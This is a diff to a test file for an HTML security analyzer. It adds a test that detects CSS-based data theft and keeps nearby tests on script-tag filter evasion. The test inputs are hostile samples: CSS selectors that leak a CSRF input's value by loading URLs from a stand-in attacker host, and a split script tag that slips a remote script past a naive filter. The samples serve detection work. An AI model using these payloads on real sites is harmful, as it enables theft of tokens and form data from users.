@@ -29,6 +29,13 @@ describe("html analyzer: markup that runs script", () => {
     expect(top(text)).toBeGreaterThanOrEqual(0.8);
   });
 
+  test("CSS that reads an input's value out of the page (a selector on how the value starts, then a fetch elsewhere); an external-link icon does not", () => {
+    for (const v of ["<style>input[name=csrf][value^=a]{background:url(//evil.example/a)}</style>", '<style>input[value$="z"] { background-image: url("https://evil.example/z") }</style>']) {
+      expect([v, rules(v).has("html.css-exfiltration"), top(v)]).toEqual([v, true, 0.85]);
+    }
+    expect(top("<style>a[href^=http]{background:url(//cdn.example/ext.png)}</style>")).toBeLessThan(0.8);
+  });
+
   test("a tag name split by a whole tag is read as a filter that deletes the inner tag once leaves it", () => {
     expect(rules("<scr<script>ipt src=https://cdn.example.net/x.js></script>").has("html.script-src")).toBe(true);
     expect(top("<scr<script>ipt src=//evil.example/x.js></scr</script>ipt>")).toBeGreaterThanOrEqual(0.9);
